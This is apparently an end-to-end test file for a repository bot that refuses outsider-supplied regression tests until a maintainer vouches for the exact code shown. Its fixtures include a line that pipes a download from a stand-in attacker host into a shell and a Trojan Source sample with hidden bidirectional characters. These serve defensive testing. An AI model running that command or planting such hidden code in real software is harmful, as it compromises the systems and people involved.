"""A vouch shows every byte it commits (issue 35 item 3), on both forges.

- An outsider's 9,237-character test (under `bugfix.max_test_chars`), mostly a comment banner, ends in
  `os.system(...)`. Before: the refusal's data block carried the code escaped (each `#` six characters), so
  the visible fence was cut ("nothing was lost") above the `os.system` line, and the maintainer's
  `--trust-test` committed the hidden tail. Now the fence shows the code whole, the signed block keeps only
  its digest, and what is committed is what the fence shows, read back from it.
- Test code holding bidirectional or invisible characters (Trojan Source) is refused, the lines shown with
  each such character escaped; nothing is committed.
- Test code under `bugfix.max_test_chars` that a refusal still could not show whole in one comment is refused
  with `TEST_TOO_LONG`, none of it shown (and no digest to vouch for).
- A refusal whose fence a writer edited vouches for nothing: the code read back from the fence must hash to
  the digest it was written with (`VOUCH_NOT_SHOWN`).
"""

from __future__ import annotations

from bot.records import sticky
from handlers.bugfix.regression_slot import code_digest
from tests.bugfix.bodies import python_slot
from tests.e2e.conftest import Steward
from tests.e2e.test_bugfix_e2e import branches, file_text, refined_bug, reply_to, repo_with_ci

SLOT_PATH = "tests/test_currency_switch.py"
TAIL = 'def test_discount_survives_currency_switch():\n    os.system("curl -s https://evil.example | sh")\n'
BANNER = "".join(f"# {'#' * 70} {i:04d}\n" for i in range(1, 110))


def long_test() -> str:
    code = "import os\n\n" + BANNER + "\n" + TAIL
    pad = 9_237 - len(code)
    return "import os\n\n" + BANNER + "#" * (pad - 1) + "\n\n" + TAIL


def test_a_vouch_commits_exactly_the_code_its_refusal_showed_whole(steward: Steward) -> None:
    code = long_test()
    assert len(code) == 9_237
    repo = repo_with_ci(steward)
    number = refined_bug(steward, repo, python_slot(code=code), by="outsider")
    asked = steward.maintainer.comment(repo, number, "/bugfix")
    steward.settle()
    refusal = reply_to(steward, repo, number, asked)
    assert "UNTRUSTED_TEST_CODE" in refusal and "nothing was lost" not in refusal
    shown = "\n".join("  " + line for line in code.rstrip("\n").split("\n"))
    assert shown in refusal, "every line of the code, the os.system one included, is in the fence"
    data = sticky.unverified_data(refusal)
    assert isinstance(data, dict) and "code" not in data["bugfix-shown"], "the data block keeps no code"
    digest = code_digest(SLOT_PATH, code.rstrip() + "\n")
    assert data["bugfix-shown"]["digest"] == digest
    steward.maintainer.comment(repo, number, f"/bugfix --trust-test {digest}")
    steward.settle()
    [branch] = [b for b in branches(steward, repo) if b != "main"]
    assert file_text(steward, repo, SLOT_PATH, branch) == code.rstrip() + "\n"
    [record] = [
        c["body"] for c in steward.bot_comments(repo, number) if c["body"].startswith("<!-- steward:bugfix:")
    ]
    kept = sticky.unverified_data(record)
    assert isinstance(kept, dict) and "code" not in kept and kept["code_chars"] == len(code.strip("\n"))


def test_test_code_with_hidden_characters_is_refused_and_shown_escaped(steward: Steward) -> None:
    code = (
        "def test_discount_survives_currency_switch():\n"
        '    access = "user"\n'
        '    if access != "user\u202e \u2066# admin\u2069 \u2066":\n'
        "        assert False\u200b\n"
    )
    repo = repo_with_ci(steward)
    number = refined_bug(steward, repo, python_slot(code=code), by="outsider")
    asked = steward.maintainer.comment(repo, number, "/bugfix")
    steward.settle()
    refusal = reply_to(steward, repo, number, asked)
    assert "TEST_HIDDEN_CHARACTERS" in refusal and "Trojan Source" in refusal
    assert '3:     if access != "user\\u202e \\u2066# admin\\u2069 \\u2066":' in refusal
    assert "4:         assert False\\u200b" in refusal
    assert "\u202e" not in refusal and "\u200b" not in refusal
    assert branches(steward, repo) == ["main"]


def test_the_refusal_names_who_last_wrote_section_7_where_the_forge_keeps_an_edit_history(
    steward: Steward,
) -> None:
    """Issue 37 §3: a maintainer who rewrote an outsider's section 7 is named from the issue's edit history
    (GitHub's GraphQL ``userContentEdits``); Gitea's API has no edit history, and the refusal says so. The
    code still needs a writer's vouch: code from the report may remain in what the maintainer edited."""
    repo = repo_with_ci(steward)
    theirs = "def test_discount_survives_currency_switch():\n    assert True\n"
    mine = "def test_discount_survives_currency_switch():\n    assert total_after_switch() == 76.5\n"
    number = refined_bug(steward, repo, python_slot(code=theirs), by="outsider")
    first = steward.maintainer.comment(repo, number, "/bugfix")
    steward.settle()
    untouched = reply_to(steward, repo, number, first)
    steward.maintainer.edit_issue(repo, number, body=python_slot(code=mine))
    steward.settle()
    asked = steward.maintainer.comment(repo, number, "/bugfix")
    steward.settle()
    refusal = reply_to(steward, repo, number, asked)
    assert (
        "UNTRUSTED_TEST_CODE" in refusal and "opened by @\u2060outsider, who has no write access" in refusal
    )
    assert "comes from" not in refusal
    if steward.forge == "github":
        assert "the issue's edit history shows they wrote section 7 as it is now" in untouched
        assert (
            "section 7 as it is now was last written by @\u2060maintainer (from the issue's edit history)"
            in (refusal)
        )
    else:
        for said in (untouched, refusal):
            assert (
                "this forge's API keeps no edit history, so Steward cannot tell who last wrote section 7"
                in said
            )
    assert code_digest(SLOT_PATH, mine.rstrip() + "\n") in refusal, "the code shown is the code now"
    assert branches(steward, repo) == ["main"]


def test_a_test_too_long_to_show_whole_in_one_comment_is_refused_and_never_shown_cut(
    steward: Steward,
) -> None:
    """Under `bugfix.max_test_chars` (20,000) but padded with blank lines, each shown as the fence's two
    spaces of indentation: the refusal would pass the 60,000 characters of a comment. It is refused with
    `TEST_TOO_LONG` and shows none of the code (no cut fence, no digest to vouch for); a vouch for the digest
    anyone can compute from the issue commits nothing; once section 7 is shortened, the code is shown."""
    code = "def test_discount_survives_currency_switch():\n" + "\n" * 19_800 + TAIL.split("\n", 1)[1]
    assert len(code) < 20_000
    repo = repo_with_ci(steward)
    number = refined_bug(steward, repo, python_slot(code=code), by="outsider")
    asked = steward.maintainer.comment(repo, number, "/bugfix")
    steward.settle()
    refusal = reply_to(steward, repo, number, asked)
    assert "<sub>`TEST_TOO_LONG`</sub>" in refusal
    assert f"The test code for `{SLOT_PATH}` is too long to show whole in one comment" in refusal
    assert (
        "Shorten the test in section 7 (a regression test needs one case), then run the command again"
        in refusal
    )
    assert "os.system" not in refusal and "```" not in refusal and "nothing was lost" not in refusal
    digest = code_digest(SLOT_PATH, code.rstrip() + "\n")
    assert digest not in refusal
    vouched = steward.maintainer.comment(repo, number, f"/bugfix --trust-test {digest}")
    steward.settle()
    assert "TEST_TOO_LONG" in reply_to(steward, repo, number, vouched)
    assert branches(steward, repo) == ["main"], "nothing committed"
    short = "def test_discount_survives_currency_switch():\n" + TAIL.split("\n", 1)[1]
    steward.outsider.edit_issue(repo, number, body=python_slot(code=short))
    steward.settle()
    again = steward.maintainer.comment(repo, number, "/bugfix")
    steward.settle()
    shown = reply_to(steward, repo, number, again)
    assert "UNTRUSTED_TEST_CODE" in shown and code_digest(SLOT_PATH, short) in shown and "os.system" in shown


def test_a_vouch_for_a_refusal_whose_fence_was_edited_commits_nothing(steward: Steward) -> None:
    """A writer edits the code in Steward's refusal (its signed block keeps only the digest, so the block
    still verifies). The maintainer's `--trust-test` for the digest the refusal was written with: the code
    read back from the fence no longer hashes to it, so that refusal vouches for nothing — `VOUCH_NOT_SHOWN`,
    and the issue's code is shown again, in a new comment. Vouching for that one commits the issue's code,
    never the edited fence's."""
    code = "def test_discount_survives_currency_switch():\n    assert total_after_switch() == 76.5\n"
    evil = '    os.system("curl -s https://evil.example | sh")'
    repo = repo_with_ci(steward)
    number = refined_bug(steward, repo, python_slot(code=code), by="outsider")
    steward.maintainer.add_collaborator(repo, "triager", "push" if steward.forge == "github" else "write")
    asked = steward.maintainer.comment(repo, number, "/bugfix")
    steward.settle()
    refusal = reply_to(steward, repo, number, asked)
    digest = code_digest(SLOT_PATH, code)
    assert "UNTRUSTED_TEST_CODE" in refusal and f"--trust-test {digest}`" in refusal
    [shown] = [c for c in steward.bot_comments(repo, number) if c["body"] == refusal]
    line = "      assert total_after_switch() == 76.5"
    assert line in refusal
    steward.triager.edit_comment(repo, shown["id"], refusal.replace(line, "  " + evil))
    steward.settle()
    vouched = steward.maintainer.comment(repo, number, f"/bugfix --trust-test {digest}")
    steward.settle()
    answer = reply_to(steward, repo, number, vouched)
    assert "<sub>`VOUCH_NOT_SHOWN`</sub>" in answer
    assert f"No refusal of mine showed test code with the digest `{digest}`" in answer
    assert line in answer and evil not in answer, "the issue's code, shown again"
    assert branches(steward, repo) == ["main"], "nothing committed"
    steward.maintainer.comment(repo, number, f"/bugfix --trust-test {digest}")
    steward.settle()
    [branch] = [b for b in branches(steward, repo) if b != "main"]
    committed = file_text(steward, repo, SLOT_PATH, branch)
    assert committed == code and "os.system" not in committed
